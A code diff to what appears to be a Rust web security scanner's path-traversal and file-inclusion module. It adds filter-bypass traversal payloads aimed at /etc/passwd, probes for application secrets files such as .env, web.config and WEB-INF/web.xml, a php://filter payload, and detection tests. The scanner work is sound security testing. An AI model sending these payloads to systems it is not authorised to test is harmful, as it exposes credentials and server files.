@@ -1,4 +1,6 @@
-//! Path traversal and local file inclusion by known-file signatures.
+//! Path traversal and local file inclusion by known-file signatures: operating-system files,
+//! and the application's own files (servlet descriptor, framework configs, `.env`,
+//! `web.config`) that a read confined to the application still reaches.
 
 use super::common::inject;
 use crate::catalogue::{locs, module_id, OWASP_A01};
@@ -49,10 +51,29 @@ pub(crate) fn meta() -> ModuleMeta {
                 class: "File Inclusion",
                 description: "php://filter base64 output of a known file.",
             },
+            AttackMeta {
+                id: "PT_04",
+                kind: "Application-server and framework files",
+                class: "File Inclusion",
+                description: "The application's own files at a few depths (WEB-INF/web.xml, WEB-INF/classes/application.properties, .env, web.config), confirmed by their formats.",
+            },
         ],
     }
 }
 
+
+/// The application's own files, relative to where reads usually start.
+const APP_FILES: &[&str] = &[
+    "WEB-INF/web.xml",
+    "../WEB-INF/web.xml",
+    "../../WEB-INF/web.xml",
+    "WEB-INF/classes/application.properties",
+    ".env",
+    "../.env",
+    "../../.env",
+    "web.config",
+    "../web.config",
+];
 
 const UP: &str = "../../../../../../../../../../";
 
@@ -72,6 +93,19 @@ fn payloads(original: &str) -> Vec<(&'static str, String)> {
             "PT_01",
             format!("{}windows\\win.ini", UP.replace('/', "\\")),
         ),
+        // Filters that decode once more, or strip `../` once.
+        (
+            "PT_01",
+            format!("{}etc%2fpasswd", UP.replace("../", "%2e%2e%2f")),
+        ),
+        (
+            "PT_01",
+            format!("{}etc%252fpasswd", UP.replace("../", "%252e%252e%252f")),
+        ),
+        (
+            "PT_01",
+            format!("{}etc/passwd", UP.replace("../", "..././")),
+        ),
         ("PT_02", "/etc/passwd".to_string()),
         ("PT_02", "file:///etc/passwd".to_string()),
         ("PT_02", "C:\\Windows\\win.ini".to_string()),
@@ -80,10 +114,28 @@ fn payloads(original: &str) -> Vec<(&'static str, String)> {
             "php://filter/convert.base64-encode/resource=index.php".to_string(),
         ),
     ];
+    // Reads confined to the application (a servlet context, an open_basedir) still reach
+    // its own files.
+    for f in APP_FILES {
+        v.push(("PT_04", (*f).to_string()));
+    }
     if let Some(i) = original.rfind('/') {
         v.push(("PT_01", format!("{}/{UP}etc/passwd", &original[..i])));
     }
     v
+}
+
+/// The parameter looks like it names a file: a value with a dot or a separator, or a name
+/// that says so.
+fn file_like(p: &InsertionPoint) -> bool {
+    const NAMES: &[&str] = &[
+        "file", "path", "page", "doc", "tpl", "templ", "incl", "dir", "folder", "load", "read",
+        "layout", "view", "resource", "src", "asset", "lang", "style", "theme", "module",
+    ];
+    let n = p.name.to_ascii_lowercase();
+    p.original.contains(['.', '/', '\\'])
+        || n.len() == 1
+        || NAMES.iter().any(|w| n.contains(w))
 }
 
 pub(crate) async fn attack(
@@ -96,7 +148,13 @@ pub(crate) async fn attack(
         return Ok(());
     }
     let orig_text = orig.response.text();
-    for (attack_id, value) in payloads(&p.original) {
+    let mut all = payloads(&p.original);
+    if !file_like(p) {
+        // The encoding variants and the application's files cost 12 requests a parameter:
+        // spent on parameters that look like they name a file.
+        all.retain(|(id, v)| *id != "PT_04" && !v.contains("%2e") && !v.contains("%252e") && !v.contains("..././"));
+    }
+    for (attack_id, value) in all {
         let sent = inject(ctx, r, p, &value).await?;
         let text = sent.response.text();
         if let Some((file, proof)) = file_content(&text, &orig_text) {
@@ -121,14 +179,31 @@ pub(crate) async fn attack(
     Ok(())
 }
 
-/// The file whose content shows in `text` and did not in the original page, with the
-/// matching excerpt.
+/// The file whose content shows in `text` (as is, or HTML-escaped inside the page) and did
+/// not in the original page, with the matching excerpt.
 fn file_content(text: &str, orig_text: &str) -> Option<(&'static str, String)> {
+    let (text, orig_text) = (unescape(text), unescape(orig_text));
     super::signatures::PATH_TRAVERSAL.list.iter().find_map(|s| {
-        let m = s.regex.find(text)?;
-        (!s.regex.is_match(orig_text))
-            .then(|| (s.label.as_str(), m.as_str().chars().take(200).collect()))
+        let m = s.regex.find(&text)?;
+        (!s.regex.is_match(&orig_text)).then(|| {
+            let excerpt: String = m.as_str().chars().take(200).collect();
+            (s.label.as_str(), excerpt)
+        })
     })
+}
+
+/// `text` with the five HTML escapes a page uses to show a file undone.
+fn unescape(text: &str) -> std::borrow::Cow<'_, str> {
+    if !text.contains('&') {
+        return text.into();
+    }
+    text.replace("&lt;", "<")
+        .replace("&gt;", ">")
+        .replace("&quot;", "\"")
+        .replace("&#39;", "'")
+        .replace("&#x27;", "'")
+        .replace("&amp;", "&")
+        .into()
 }
 
 #[cfg(test)]
@@ -169,6 +244,24 @@ mod tests {
                 None,
             ),
             ("a normal page", NORMAL, NORMAL, None),
+            (
+                "web.xml shown escaped in a page",
+                "<pre>&lt;?xml version=&quot;1.0&quot;?&gt;\n&lt;web-app xmlns=&quot;http://xmlns.jcp.org/xml/ns/javaee&quot; version=&quot;4.0&quot;&gt;</pre>",
+                NORMAL,
+                Some("WEB-INF/web.xml"),
+            ),
+            (
+                ".env",
+                "<pre>APP_ENV=production\nDB_PASSWORD=Env!r0nment\n</pre>",
+                NORMAL,
+                Some(".env"),
+            ),
+            (
+                "docs about web-app",
+                "<p>The &lt;web-app&gt; element is the root of the descriptor.</p>",
+                NORMAL,
+                None,
+            ),
             (
                 "ini-like prose",
                 "<p>[fonts] are configured in settings</p>",
